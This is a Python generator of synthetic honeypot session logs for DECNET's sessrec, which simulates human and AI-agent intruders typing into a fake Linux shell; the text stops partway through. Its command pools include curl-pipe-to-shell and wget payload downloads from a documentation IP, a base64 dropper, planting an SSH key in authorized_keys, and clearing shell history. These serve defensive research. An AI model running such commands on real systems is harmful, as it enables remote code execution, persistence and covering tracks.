#!/usr/bin/env python3
"""Deterministic generator of realistic DECNET `sessrec` shards.

Writes shards in sessrec's exact byte format (spec/behave-shell.md §1):

* one compact JSON object per line, keys in sessrec's order; header line first
  for each sid; `t` printed with `%.6f`, never decreasing within a sid;
* payload bytes escaped as sessrec does (§1.4): `\\"`, `\\\\`, `\\b \\f \\n \\r \\t`,
  other controls and DEL as `\\u00xx`, bytes >= 0x80 written RAW (so Latin-1
  keystrokes make the line invalid UTF-8, and a 975-byte cut can split a
  UTF-8 sequence);
* every read (client side: one keystroke, a paste, a TCP segment; pty side:
  up to 4096 bytes) is cut into pieces of at most 975 raw bytes, all at one `t`
  (§1.6);
* resize lines (`"ch":"r"`), the truncation sentinel after the 10 MiB
  per-session cap (§1.2) or after a simulated failed write (`--trunc-prob`);
* sessions of one (decky, service, UTC day) share one file and interleave by
  wall-clock time; the layout is DECNET's
  `<out>/<decky>/<service>/transcripts/sessions-YYYY-MM-DD.jsonl`;
* with `--syslog`, the recorder's RFC 5424 `session_recorded` line (§1.10) for
  every session, in `<out>/logs/sessrec-YYYY-MM-DD.log` (day = session end).

Operator classes (spec §5): HUMAN (live typing, typos and backspaces, think
pauses proportional to what was read, tab completion, ctrl shortcuts, errors
then rerun or switch), YOU-sim (short canned commands pasted at typing pace),
LW-sim (small-model agent: pastes 2-8 s apart), CLAUDE-FF (reasoning agent,
8-30 s gaps independent of output), CLAUDE-CL (closed-loop agent, pauses grow
with the output it read, adaptive command choice).

Same arguments, same bytes: all randomness comes from one `random.Random`
seeded by `--seed`, and nothing reads the clock. Standard library only.

Usage:
  sessrec_gen.py --out DIR --seed N --sessions N --days N --deckies N
                 [--target-bytes N] [--classes human,you-sim,...] [--syslog]
                 [--trunc-prob P] [--start-date YYYY-MM-DD] [--services ssh,telnet]
                 [--quiet]
"""
import argparse
import base64
import copy
import datetime
import heapq
import math
import os
import random
import re
import sys
import uuid

CLASSES = ("human", "you-sim", "lw-sim", "claude-ff", "claude-cl")
CAP_BYTES = 10 * 1024 * 1024   # per-session raw payload cap (§1.2)
PIECE = 975                    # max raw bytes per event line (§1.6)
READ = 4096                    # max bytes per read() (§1.6)

# --------------------------------------------------------------------------
# §1.4 escaping
_ESC = {0x22: b'\\"', 0x5C: b"\\\\", 0x08: b"\\b", 0x0C: b"\\f", 0x0A: b"\\n",
        0x0D: b"\\r", 0x09: b"\\t"}
_ESC_TABLE = {}
for _b in list(range(0x20)) + [0x22, 0x5C, 0x7F]:
    _ESC_TABLE[bytes([_b])] = _ESC.get(_b, b"\\u%04x" % _b)
_ESC_RE = re.compile(rb'[\x00-\x1f"\\\x7f]')


def esc(data):
    """sessrec's byte escaping: controls escaped, bytes >= 0x80 raw."""
    if not _ESC_RE.search(data):
        return data
    return _ESC_RE.sub(lambda m: _ESC_TABLE[m.group()], data)


# --------------------------------------------------------------------------
# Hosts and their shell


LANGS = ["en_US.UTF-8"] * 6 + ["C.UTF-8", "de_DE.UTF-8", "fr_FR.UTF-8", "pt_BR.UTF-8",
                               "en_GB.UTF-8", "ru_RU.UTF-8", "es_ES.UTF-8", "POSIX",
                               "de_DE@euro", "C"]
USERS = ["ubuntu", "admin", "deploy", "pi", "git", "oracle", "test"]
WORDS = ["backup", "config", "data", "deploy", "logs", "notes", "scripts", "www", "db",
         "keys", "old", "tmp", "src", "build", "releases", "certs"]
FILES = ["notes.txt", "backup.sh", "id_rsa.pub", "config.yml", ".bash_history", "db.sql",
         "passwords.txt", "deploy.sh", "app.log", "README.md", "Übersicht.txt",
         "crontab.bak", "wallet.dat", ".env", "run.py"]
BIN_DIRS = ["/usr/bin", "/usr/sbin", "/bin", "/sbin", "/usr/local/bin"]
PROCS = ["/sbin/init", "/lib/systemd/systemd-journald", "/usr/sbin/sshd -D",
         "/usr/sbin/cron -f", "/usr/sbin/rsyslogd -n", "nginx: master process /usr/sbin/nginx",
         "nginx: worker process", "/usr/bin/containerd", "/usr/sbin/mysqld",
         "/usr/bin/python3 /opt/app/run.py", "postgres: checkpointer", "/usr/bin/redis-server *:6379",
         "/lib/systemd/systemd-logind", "/usr/bin/dbus-daemon --system", "sshd: root@pts/0",
         "-bash", "/usr/sbin/atd -f", "/usr/lib/policykit-1/polkitd --no-debug"]


class Host:
    def __init__(self, rng, decky, service):
        self.rng = rng
        self.name = decky if rng.random() < 0.6 else rng.choice(
            ["srv-prod-%d" % rng.randint(1, 9), "ip-10-0-%d-%d" % (rng.randint(0, 9), rng.randint(2, 250)),
             "db%02d" % rng.randint(1, 20), "nas", "raspberrypi", "web", "gitlab"])
        self.root = rng.random() < 0.75
        self.user = "root" if self.root else rng.choice(USERS)
        self.home = "/root" if self.root else "/home/" + self.user
        self.cwd = "~"
        self.lang = rng.choice(LANGS)
        self.colors = rng.random() < 0.5
        self.title = rng.random() < 0.6
        self.kernel = rng.choice(["5.15.0-91-generic", "6.1.0-18-amd64", "5.10.0-27-amd64",
                                  "4.19.0-26-amd64", "6.8.0-45-generic"])
        self.service = service
        self.files = {self.home: rng.sample(FILES, rng.randint(3, 8)) + rng.sample(WORDS, rng.randint(1, 4))}
        self.history = []

    def prompt(self):
        sig = "#" if self.root else "$"
        if self.colors:
            p = "\x1b[01;32m%s@%s\x1b[00m:\x1b[01;34m%s\x1b[00m%s " % (self.user, self.name, self.cwd, sig)
        else:
            p = "%s@%s:%s%s " % (self.user, self.name, self.cwd, sig)
        if self.title:
            p = "\x1b]0;%s@%s: %s\x07" % (self.user, self.name, self.cwd) + p
        return "\x1b[?2004h" + p

    def banner(self, src_ip):
        r = self.rng
        s = "Linux %s %s #1 SMP PREEMPT_DYNAMIC x86_64\r\n\r\n" % (self.name, self.kernel)
        if r.random() < 0.5:
            s += ("The programs included with the Debian GNU/Linux system are free software;\r\n"
                  "the exact distribution terms for each program are described in the\r\n"
                  "individual files in /usr/share/doc/*/copyright.\r\n\r\n")
        else:
            s += (" * Documentation:  https://help.ubuntu.com\r\n * Management:     https://landscape.canonical.com\r\n\r\n"
                  "  System load:  0.%02d              Processes:             %d\r\n"
                  "  Usage of /:   %d.%d%% of 38.58GB   Users logged in:       0\r\n\r\n" % (
                      r.randint(0, 99), r.randint(90, 240), r.randint(10, 80), r.randint(0, 9)))
        s += "Last login: Sat May  2 %02d:%02d:%02d 2026 from %s\r\n" % (
            r.randint(0, 23), r.randint(0, 59), r.randint(0, 59), src_ip)
        return s + self.prompt()

    # -- command execution: returns (output text, kind) -------------------
    def run(self, line):
        r = self.rng
        words = line.split()
        if not words:
            return "", "ok"
        tok = words[0]
        args = words[1:]
        self.history.append(line)
        path_arg = next((a for a in args if not a.startswith("-")), None)
        if "|" in line and tok in ("cat", "ps", "ls", "grep", "find", "netstat", "ss", "env", "history"):
            base, _ = self.run(line.split("|")[0].strip())
            self.history.pop()
            lines = base.split("\r\n")
            keep = r.randint(0, min(8, len(lines)))
            return "\r\n".join(lines[:keep]) + ("\r\n" if keep else ""), "ok"
        f = getattr(self, "c_" + tok.replace("-", "_").replace(".", "_"), None)
        if f is None and tok in GENERIC:
            return GENERIC[tok] % {"lang": self.lang, "host": self.name, "user": self.user}, "ok"
        if f is None:
            if tok in ("exit", "logout"):
                return "logout\r\n", "exit"
            if tok.startswith("./") or tok.startswith("/"):
                if r.random() < 0.5:
                    return "-bash: %s: Permission denied\r\n" % tok, "err"
                return "-bash: %s: No such file or directory\r\n" % tok, "err"
            if tok in ("cd", "export", "unset", "set", "clear", "chmod", "rm", "mkdir", "touch",
                       "kill", "shred", "sleep", "true", "echo", "nohup", "mv", "cp", "tar", "history"):
                return self.quiet(tok, args), "ok"
            return "-bash: %s: command not found\r\n" % tok, "err"
        return f(args, path_arg)

    def quiet(self, tok, args):
        r = self.rng
        if tok == "cd":
            d = args[0] if args else "~"
            if d in ("/nonexistent", "/root") and not self.root:
                return "-bash: cd: %s: Permission denied\r\n" % d
            self.cwd = "~" if d in ("~", self.home) else d
            return ""
        if tok == "clear":
            return "\x1b[H\x1b[2J\x1b[3J"
        if tok == "echo":
            return " ".join(args).strip("'\"") + "\r\n"
        if tok == "history":
            if args[:1] == ["-c"]:
                return ""
            return "".join("%5d  %s\r\n" % (i + 1, h) for i, h in enumerate(self.history[-40:]))
        if tok == "rm" and not self.root and r.random() < 0.5:
            return "rm: cannot remove '%s': Permission denied\r\n" % (args[-1] if args else "x")
        if tok == "tar" and r.random() < 0.5:
            return "".join("%s/%s\r\n" % (args[-1] if args else ".", f) for f in r.sample(FILES, 5))
        return ""

    def c_whoami(self, a, p):
        return self.user + "\r\n", "ok"

    def c_id(self, a, p):
        if self.root:
            return "uid=0(root) gid=0(root) groups=0(root)\r\n", "ok"
        return "uid=1000(%s) gid=1000(%s) groups=1000(%s),4(adm),24(cdrom),27(sudo)\r\n" % ((self.user,) * 3), "ok"

    def c_uname(self, a, p):
        if "-a" in a:
            return "Linux %s %s #1 SMP PREEMPT_DYNAMIC Debian x86_64 GNU/Linux\r\n" % (self.name, self.kernel), "ok"
        return "Linux\r\n", "ok"

    def c_hostname(self, a, p):
        return self.name + "\r\n", "ok"

    def c_pwd(self, a, p):
        return (self.home if self.cwd == "~" else self.cwd) + "\r\n", "ok"

    def c_w(self, a, p):
        return (" %02d:%02d:%02d up %d days,  3:12,  1 user,  load average: 0.%02d, 0.%02d, 0.%02d\r\n"
                "USER     TTY      FROM             LOGIN@   IDLE   JCPU   PCPU WHAT\r\n"
                "%-8s pts/0    198.51.100.23    09:14    0.00s  0.03s  0.00s w\r\n" % (
                    self.rng.randint(0, 23), self.rng.randint(0, 59), self.rng.randint(0, 59),
                    self.rng.randint(1, 400), self.rng.randint(0, 99), self.rng.randint(0, 99),
                    self.rng.randint(0, 99), self.user)), "ok"

    c_who = c_w

    def c_uptime(self, a, p):
        return " 10:%02d:%02d up 41 days,  2:07,  1 user,  load average: 0.08, 0.03, 0.01\r\n" % (
            self.rng.randint(0, 59), self.rng.randint(0, 59)), "ok"

    def c_date(self, a, p):
        return "Sat May  2 10:%02d:%02d UTC 2026\r\n" % (self.rng.randint(0, 59), self.rng.randint(0, 59)), "ok"

    def c_df(self, a, p):
        r = self.rng
        used = r.randint(3, 30)
        return ("Filesystem      Size  Used Avail Use%% Mounted on\r\nudev            1.9G     0  1.9G   0%% /dev\r\n"
                "tmpfs           394M  1.1M  393M   1%% /run\r\n/dev/sda1        39G   %dG   %dG  %d%% /\r\n"
                "tmpfs           2.0G     0  2.0G   0%% /dev/shm\r\n" % (used, 39 - used, used * 100 // 39)), "ok"

    def c_free(self, a, p):
        return ("               total        used        free      shared  buff/cache   available\r\n"
                "Mem:            3931         %d        1204           1        2312        3501\r\n"
                "Swap:           1023           0        1023\r\n" % self.rng.randint(200, 900)), "ok"

    def c_ps(self, a, p):
        r = self.rng
        out = "USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND\r\n"
        for i in range(r.randint(25, 90)):
            out += "%-8s %7d  %d.%d  %d.%d %6d %5d ?        Ss   May01   0:%02d %s\r\n" % (
                r.choice(["root", "root", "www-data", "mysql", "syslog"]), r.randint(1, 40000),
                r.randint(0, 3), r.randint(0, 9), r.randint(0, 5), r.randint(0, 9), r.randint(1000, 900000),
                r.randint(100, 90000), r.randint(0, 59), r.choice(PROCS))
        return out, "ok"

    def c_netstat(self, a, p):
        r = self.rng
        out = "Active Internet connections (only servers)\r\nProto Recv-Q Send-Q Local Address           Foreign Address         State       PID/Program name\r\n"
        for port, prog in r.sample([(22, "sshd"), (80, "nginx"), (443, "nginx"), (3306, "mysqld"),
                                    (6379, "redis-server"), (5432, "postgres"), (25, "master"), (8080, "java")], 4):
            out += "tcp        0      0 0.0.0.0:%-15d 0.0.0.0:*               LISTEN      %d/%s\r\n" % (port, r.randint(300, 3000), prog)
        return out, "ok"

    c_ss = c_netstat

    def c_ls(self, a, p):
        r = self.rng
        d = p or self.cwd
        if d in ("/root", "/etc/shadow") and not self.root:
            return "ls: cannot open directory '%s': Permission denied\r\n" % d, "err"
        if d.startswith("/nonexist") or d.startswith("/opt/backup"):
            return "ls: cannot access '%s': No such file or directory\r\n" % d, "err"
        names = self.files.get(d) or r.sample(FILES + WORDS, r.randint(4, 14))
        if d in BIN_DIRS:
            names = ["%s%d" % (w, i) for i, w in enumerate(r.choices(WORDS + ["python", "perl", "ssh", "gpg"], k=r.randint(150, 400)))]
        def col(n):
            if self.colors and "." not in n:
                return "\x1b[0m\x1b[01;34m%s\x1b[0m" % n
            return n
        if any(x.startswith("-l") or x.startswith("-a") and "l" in x for x in a):
            out = "total %d\r\n" % r.randint(8, 400)
            for n in names:
                out += "%s 1 %s %s %6d May  %d 1%d:%02d %s\r\n" % (
                    "drwxr-xr-x" if "." not in n else "-rw-r--r--", self.user, self.user,
                    r.randint(0, 99999), r.randint(1, 2), r.randint(0, 9), r.randint(0, 59), col(n))
            return out, "ok"
        return "  ".join(col(n) for n in names) + "\r\n", "ok"

    def c_cat(self, a, p):
        r = self.rng
        if p is None:
            return "", "ok"
        if p == "/etc/passwd":
            users = ["root:x:0:0:root:/root:/bin/bash", "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin",
                     "bin:x:2:2:bin:/bin:/usr/sbin/nologin", "sys:x:3:3:sys:/dev:/usr/sbin/nologin",
                     "www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin", "sshd:x:110:65534::/run/sshd:/usr/sbin/nologin"]
            users += ["%s:x:%d:%d::/home/%s:/bin/bash" % (u, 1000 + i, 1000 + i, u) for i, u in enumerate(r.sample(USERS, 3))]
            return "\r\n".join(users) + "\r\n", "ok"
        if p == "/etc/shadow" and not self.root:
            return "cat: /etc/shadow: Permission denied\r\n", "err"
        if p == "/etc/shadow":
            return "root:$6$%016x$%s:19700:0:99999:7:::\r\ndaemon:*:19700:0:99999:7:::\r\n" % (r.getrandbits(64), "x" * 40), "ok"
        if p in ("/etc/os-release",):
            return 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\r\nNAME="Debian GNU/Linux"\r\nVERSION_ID="12"\r\nID=debian\r\n', "ok"
        if p.startswith("/proc/cpuinfo"):
            return "".join("processor\t: %d\r\nmodel name\t: Intel(R) Xeon(R) CPU E5-2680 v4 @ 2.40GHz\r\nflags\t\t: fpu vme de pse tsc msr pae mce cx8 apic sep mtrr\r\n\r\n" % i for i in range(r.choice([1, 2, 4]))), "ok"
        if r.random() < 0.35 or p.startswith("/nonexist"):
            return "cat: %s: No such file or directory\r\n" % p, "err"
        n = r.choice([1, 3, 8, 20, 60, 200])
        return "".join("%s %d %s\r\n" % (r.choice(["INFO", "WARN", "DEBUG", "user=", "key:", "#"]),
                                          r.randint(0, 10 ** 6), r.choice(WORDS) * r.randint(1, 4)) for _ in range(n)), "ok"

    c_tail = c_cat
    c_head = c_cat
    c_less = c_cat

    def c_env(self, a, p):
        r = self.rng
        lines = ["SHELL=/bin/bash", "PWD=" + self.home, "LOGNAME=" + self.user, "HOME=" + self.home,
                 "LANG=" + self.lang, "TERM=xterm-256color", "USER=" + self.user, "SHLVL=1",
                 "SSH_CLIENT=198.51.100.%d %d 22" % (r.randint(2, 250), r.randint(30000, 60000)),
                 "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
                 "AWS_SECRET_ACCESS_KEY=%040x" % r.getrandbits(160), "DB_PASSWORD=hunter%d" % r.randint(2, 99),
                 "_=/usr/bin/env"]
        if r.random() < 0.3:
            lines.insert(5, "LC_ALL=" + r.choice(LANGS))
        r.shuffle(lines)
        return "\r\n".join(lines) + "\r\n", "ok"

    c_printenv = c_env

    def c_crontab(self, a, p):
        if "-l" in a:
            if self.rng.random() < 0.6:
                return "no crontab for %s\r\n" % self.user, "ok"
            return "*/5 * * * * /opt/backup.sh >/dev/null 2>&1\r\n", "ok"
        return "", "ok"

    def c_sudo(self, a, p):
        if self.root:
            return "", "ok"
        return "[sudo] password for %s: \r\nSorry, try again.\r\n" % self.user, "ok"

    def c_find(self, a, p):
        r = self.rng
        out = ""
        for _ in range(r.randint(3, 40)):
            if r.random() < 0.3:
                out += "find: '/proc/%d/task': Permission denied\r\n" % r.randint(1, 9999)
            else:
                out += "%s/%s\r\n" % (r.choice(BIN_DIRS + ["/etc", "/opt/app", "/var/www/html"]), r.choice(FILES + WORDS))
        return out, "err" if "Permission denied" in out else "ok"

    def c_wget(self, a, p):
        r = self.rng
        url = p or "http://203.0.113.9/x"
        if r.random() < 0.3:
            return "--2026-05-02 10:11:12--  %s\r\nConnecting to 203.0.113.9:80... failed: Connection refused.\r\n" % url, "ok"
        return ("--2026-05-02 10:11:12--  %s\r\nConnecting to 203.0.113.9:80... connected.\r\nHTTP request sent, awaiting response... 200 OK\r\n"
                "Length: %d (%dK) [application/octet-stream]\r\nSaving to: 'x'\r\n\r\n"
                "x                 100%%[===================>]  %dK  --.-KB/s    in 0.02s\r\n\r\n" % (
                    url, r.randint(1000, 90000), r.randint(1, 90), r.randint(1, 90))), "ok"

    def c_curl(self, a, p):
        r = self.rng
        if r.random() < 0.3:
            return "curl: (7) Failed to connect to 203.0.113.9 port 80 after %d ms: Couldn't connect to server\r\n" % r.randint(1, 900), "ok"
        return "".join("%s\r\n" % r.choice(["#!/bin/sh", "cd /tmp", "chmod +x x", "./x &", "echo ok"]) for _ in range(r.randint(1, 12))), "ok"

    def c_python3(self, a, p):
        return "Python 3.11.2\r\n", "ok"

    c_python = c_python3

    def c_docker(self, a, p):
        return "-bash: docker: command not found\r\n", "err"

    def c_systemctl(self, a, p):
        return ("\x1b[0;1;32m●\x1b[0m ssh.service - OpenBSD Secure Shell server\r\n     Loaded: loaded (/lib/systemd/system/ssh.service; enabled)\r\n"
                "     Active: \x1b[0;1;32mactive (running)\x1b[0m since Fri 2026-05-01 08:12:01 UTC; 1 day ago\r\n"), "ok"

    def c_last(self, a, p):
        r = self.rng
        return "".join("%-8s pts/%d        198.51.100.%-3d    Fri May  1 %02d:%02d   still logged in\r\n" % (
            self.user, i, r.randint(2, 250), r.randint(0, 23), r.randint(0, 59)) for i in range(5)) + "\r\nwtmp begins Mon Apr  6 2026\r\n", "ok"

    def c_which(self, a, p):
        if p in ("gcc", "nc", "docker", "nmap"):
            return "", "ok"
        return "/usr/bin/%s\r\n" % (p or "sh"), "ok"

    def c_man(self, a, p):
        return ("\x1b[?1049h\x1b[22;0;0t\x1b[?1h\x1b=\r%s(1)        User Commands        %s(1)\r\n\r\n\x1b[1mNAME\x1b[0m\r\n"
                "       %s - manual page\r\n\r\n\x1b[7m Manual page %s(1) line 1 (press h for help or q to quit)\x1b[27m\x1b[K" % (
                    (p or "man").upper(), (p or "man").upper(), p or "man", p or "man")), "pager"

    def c_top(self, a, p):
        return "\x1b[?1049h\x1b[H\x1b[2Jtop - 10:11:12 up 41 days,  1 user,  load average: 0.00, 0.01, 0.05\r\nTasks: 112 total,   1 running\r\n", "pager"

    def c_tmux(self, a, p):
        return "\x1b[?1049h\x1b[?1004h\x1b]2;tmux\x07\x1b[H\x1b[2J\x1bPtmux;\x1b\x1b]52;c;\x07\x1b\\", "ok"

    def c_screen(self, a, p):
        return "\x1b[?1049h\x1b]83;screen\x07\x1b[H\x1b[2J\x1bP=1s\x1b\\", "ok"

    def c_ping(self, a, p):
        if "-c" in a:
            return "".join("64 bytes from %s: icmp_seq=%d ttl=57 time=%d.%d ms\r\n" % (a[-1], i + 1, self.rng.randint(1, 90), self.rng.randint(0, 9)) for i in range(4)), "ok"
        return "PING %s 56(84) bytes of data.\r\n" % (a[-1] if a else "8.8.8.8"), "hang"

    def c_nc(self, a, p):
        return "Listening on 0.0.0.0 %s\r\n" % (a[-1] if a else "4444"), "hang"

    def c_apt(self, a, p):
        return ("Reading package lists... Done\r\nBuilding dependency tree... Done\r\nThe following NEW packages will be installed:\r\n  %s\r\n"
                "0 upgraded, 1 newly installed, 0 to remove and 3 not upgraded.\r\nDo you want to continue? [Y/n] " % (a[-1] if a else "nmap")), "ask"

    c_apt_get = c_apt


# --------------------------------------------------------------------------
# Command plans per class

LANDING = ["whoami", "id", "uname -a", "w", "hostname", "pwd", "uname -a", "id"]
RECON = ["cat /etc/passwd", "cat /etc/os-release", "ps aux", "netstat -tlnp", "ss -tlnp", "df -h",
         "free -m", "env", "crontab -l", "ls -la /home", "ls -la /root", "last", "uptime", "date",
         "cat /proc/cpuinfo | grep 'model name' | head -1", "find / -perm -4000 -type f 2>/dev/null",
         "which gcc", "which nc", "systemctl status ssh", "printenv", "ls -la /tmp", "cat /etc/shadow"]
# More recon with distinct first tokens, for long scripted runs.
RECON2 = ["lsblk", "lscpu", "ip a", "ifconfig", "arp -a", "route -n", "getent passwd", "mount", "dmesg | tail",
          "journalctl -n 20", "lsmod", "iptables -L", "ulimit -a", "groups", "locale", "timedatectl",
          "hostnamectl", "lastlog", "stat /etc/passwd", "file /bin/ls", "ldd --version", "gcc --version",
          "perl -v", "php -v", "nproc", "arch", "tty", "dpkg -l | head", "users", "pgrep sshd", "lsof -i",
          "mysql --version", "getcap -r / 2>/dev/null", "sestatus", "resolvectl status", "id root"]
GENERIC = {
    "lsblk": "NAME   MAJ:MIN RM  SIZE RO TYPE MOUNTPOINTS\r\nsda      8:0    0   40G  0 disk \r\n└─sda1   8:1    0   40G  0 part /\r\n",
    "lscpu": "Architecture:            x86_64\r\n  CPU op-mode(s):        32-bit, 64-bit\r\nCPU(s):                  2\r\nModel name:              Intel(R) Xeon(R) CPU\r\n",
    "ip": "1: lo: <LOOPBACK,UP,LOWER_UP> mtu 65536 qdisc noqueue state UNKNOWN\r\n    inet 127.0.0.1/8 scope host lo\r\n2: eth0: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 1500\r\n    inet 10.0.3.17/24 brd 10.0.3.255 scope global eth0\r\n",
    "arp": "? (10.0.3.1) at 52:54:00:12:34:56 [ether] on eth0\r\n",
    "route": "Kernel IP routing table\r\nDestination     Gateway         Genmask         Flags Metric Ref    Use Iface\r\n0.0.0.0         10.0.3.1        0.0.0.0         UG    0      0        0 eth0\r\n",
    "getent": "root:x:0:0:root:/root:/bin/bash\r\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\r\n",
    "mount": "/dev/sda1 on / type ext4 (rw,relatime)\r\nproc on /proc type proc (rw,nosuid,nodev,noexec,relatime)\r\n",
    "journalctl": "-- No entries --\r\n",
    "lsmod": "Module                  Size  Used by\r\nnf_tables             299008  0\r\next4                 1003520  1\r\n",
    "iptables": "Chain INPUT (policy ACCEPT)\r\ntarget     prot opt source               destination\r\n",
    "ulimit": "core file size              (blocks, -c) 0\r\nopen files                          (-n) 1024\r\n",
    "groups": "root\r\n", "locale": "LANG=%(lang)s\r\nLC_CTYPE=\"%(lang)s\"\r\nLC_ALL=\r\n",
    "timedatectl": "               Local time: Sat 2026-05-02 10:11:12 UTC\r\n                Time zone: Etc/UTC (UTC, +0000)\r\n",
    "hostnamectl": " Static hostname: %(host)s\r\n  Operating System: Debian GNU/Linux 12 (bookworm)\r\n",
    "lastlog": "Username         Port     From             Latest\r\nroot             pts/0    198.51.100.23    Sat May  2 09:14:01 +0000 2026\r\n",
    "stat": "  File: /etc/passwd\r\n  Size: 1342      \tBlocks: 8          IO Block: 4096   regular file\r\n",
    "file": "/bin/ls: ELF 64-bit LSB pie executable, x86-64, dynamically linked\r\n",
    "ldd": "ldd (Debian GLIBC 2.36-9+deb12u4) 2.36\r\n", "nproc": "2\r\n", "arch": "x86_64\r\n", "tty": "/dev/pts/0\r\n",
    "dpkg": "ii  adduser        3.134     all          add and remove users and groups\r\nii  apt            2.6.1     amd64        commandline package manager\r\n",
    "users": "%(user)s\r\n", "pgrep": "612\r\n", "lsof": "sshd    612 root    3u  IPv4  18211      0t0  TCP *:ssh (LISTEN)\r\n",
    "getcap": "/usr/bin/ping cap_net_raw=ep\r\n", "resolvectl": "Global\r\n       Protocols: +LLMNR -mDNS -DNSOverTLS\r\n",
}
PLAYBOOK_TAIL = ["wget http://203.0.113.9/x -O /tmp/.x", "curl -s http://203.0.113.9/i.sh | sh",
                 "chmod +x /tmp/.x", "/tmp/.x", "crontab -l", "nohup /tmp/.x >/dev/null 2>&1 &",
                 "echo 'ssh-rsa AAAAB3NzaC1yc2E x' >> ~/.ssh/authorized_keys", "python3 -c 'import pty'",
                 "docker ps", "tar czf /tmp/o.tgz /etc", "unset HISTFILE", "history -c", "rm -rf /tmp/.x"]
HUMAN_POOL = ["ls", "ls -la", "cd /tmp", "cd ~", "cat notes.txt", "cat /etc/passwd", "ls -la /var/www",
              "cd /var/www", "ps aux | grep ssh", "netstat -tlnp", "cat config.yml", "cat .env", "ls /opt",
              "cd /opt", "df -h", "free -m", "env", "history", "w", "cat /etc/shadow", "ls -la /root",
              "cat /etc/passwd | grep bash | cut -d: -f1", "uname -a", "crontab -l", "sudo -l",
              "find / -name '*.conf' 2>/dev/null | head", "wget http://203.0.113.9/x", "chmod +x x", "./x",
              "ls -la", "cat run.py", "ls /usr/bin", "top", "man ss", "ping 8.8.8.8", "apt install nmap",
              "tmux", "ls -la /etc/cron.d", "cat /etc/hosts", "echo thanks", "ps aux", "ls"]
HUMAN_CORE = ["ls", "ls -la", "cd ..", "cd /etc", "cat notes.txt", "cat /etc/hosts", "ls -la /tmp", "cd ~",
              "cat config.yml", "ls /var/log", "cat /var/log/auth.log | tail"]
HUMAN_TYPOS = {"ls": "sl", "cat": "cta", "cd": "dc", "uname": "unmae", "ps": "sp", "history": "hsitory",
               "netstat": "netsat", "grep": "grpe", "clear": "claer", "whoami": "whaomi"}
CL_POOL = ["cat /etc/passwd", "ls -la /home", "cat /etc/os-release", "ls -la /var/www", "ls -la /opt",
           "cat /var/www/html/config.php", "ps aux", "ls -la /root/.ssh", "cat /root/.ssh/authorized_keys",
           "find / -name '*.env' 2>/dev/null", "cat /opt/app/.env", "grep -r password /etc 2>/dev/null",
           "ls -la /tmp", "netstat -tlnp", "cat /etc/crontab", "grep -i pass /var/www/html/config.php",
           "ls /usr/bin", "find / -perm -4000 -type f 2>/dev/null", "cat /proc/version", "id",
           "ls -la /etc/cron.d", "cat /etc/hosts"]
DROPPER = "echo '%s' | base64 -d > /tmp/.k && chmod +x /tmp/.k"


def payload(rng, n):
    """n chars of base64 (a dropped binary), from the seeded stream."""
    return base64.b64encode(rng.getrandbits(8 * n).to_bytes(n, "little")).decode()[:n]


# --------------------------------------------------------------------------
# Session simulation


class Session:
    """One recorded session: a list of reads (t, ch, bytes) in write order."""

    def __init__(self, rng, cls, ident, host, src_ip):
        self.rng = rng
        self.cls = cls
        self.ident = ident
        self.host = host
        self.src_ip = src_ip
        self.sid = str(uuid.UUID(int=rng.getrandbits(128), version=4))
        self.ev = []            # (t, ch, bytes)
        self.t = rng.uniform(0.002, 0.09)
        self.width, self.height = rng.choice([(80, 24), (120, 32), (132, 43), (200, 50), (237, 61), (100, 30)])
        self.term = rng.choice(["xterm-256color"] * 5 + ["xterm", "screen-256color", "tmux-256color", "vt100", "linux", "", "xterm-kitty"])
        self.bracketed = rng.random() < 0.5   # client terminal wraps pastes
        self.last_out_chars = 0
        self.enter = "\r"

    def out(self, t, text):
        data = text.encode("utf-8", "surrogateescape") if isinstance(text, str) else text
        # the pty side is read in 4096-byte reads, a few ms apart
        while data:
            self.ev.append((t, "o", data[:READ]))
            data = data[READ:]
            t += self.rng.uniform(0.0003, 0.004)
        return t

    def inp(self, t, data):
        if isinstance(data, str):
            data = data.encode("utf-8", "surrogateescape")
        self.ev.append((t, "i", data))

    def resize(self, t):
        self.width, self.height = self.rng.choice([(80, 24), (120, 32), (160, 45), (100, 30), (211, 57)])
        self.ev.append((t, "r", b"%dx%d" % (self.width, self.height)))

    # -- the shell's reaction to an executed line ---------------------------
    def execute(self, t, line):
        """Output after Enter at time t. Returns (t_after, kind, out_chars)."""
        r = self.rng
        text, kind = self.host.run(line)
        t1 = t + r.uniform(0.0004, 0.003)
        self.out(t1, "\r\n\x1b[?2004l\r")
        n = len(text)
        t2 = t1 + r.uniform(0.002, 0.05) + n * r.uniform(1e-6, 2e-5)
        if kind == "exit":
            self.out(t2, text)
            return t2, kind, n
        if text:
            t2 = self.out(t2, text)
        if kind in ("ok", "err"):
            t2 += r.uniform(0.0005, 0.01)
            self.out(t2, self.host.prompt())
        self.last_out_chars = n
        return t2, kind, n

    def finish_special(self, t, kind, typist):
        """Pagers, hanging commands and questions need a key before the prompt."""
        r = self.rng
        if kind == "pager":
            t += typist()
            self.inp(t, "q")
            t += r.uniform(0.001, 0.01)
            self.out(t, "\r\x1b[K\x1b[?1l\x1b>\x1b[?1049l\x1b[23;0;0t" + self.host.prompt())
        elif kind == "hang":
            for _ in range(r.randint(1, 4)):
                t += r.uniform(0.9, 1.1)
                self.out(t, "64 bytes: icmp_seq=%d ttl=57 time=%d.%d ms\r\n" % (r.randint(1, 9), r.randint(1, 90), r.randint(0, 9)))
            t += typist()
            self.inp(t, "\x03")
            t += r.uniform(0.001, 0.01)
            self.out(t, "^C\r\n" + self.host.prompt())
        elif kind == "ask":
            t += typist()
            self.inp(t, "y" + self.enter if r.random() < 0.5 else "n" + self.enter)
            t += r.uniform(0.001, 0.01)
            self.out(t, "y\r\nAbort.\r\n" + self.host.prompt())
        return t

    # -- typing models ------------------------------------------------------
    def type_line(self, t, keys, iki, echo=True):
        """Type a list of keys (str each) with inter-key delays from iki()."""
        r = self.rng
        for k in keys:
            t += iki()
            self.inp(t, k)
            if echo:
                if k in ("\x7f", "\x08"):
                    e = "\b\x1b[K"
                elif k == "\t":
                    e = getattr(self, "_completion", "") or "\x07"
                elif k in ("\x15", "\x17"):
                    e = "\r\x1b[K" + self.host.prompt()[8:]
                elif k in ("\x01", "\x05", "\x02", "\x06"):
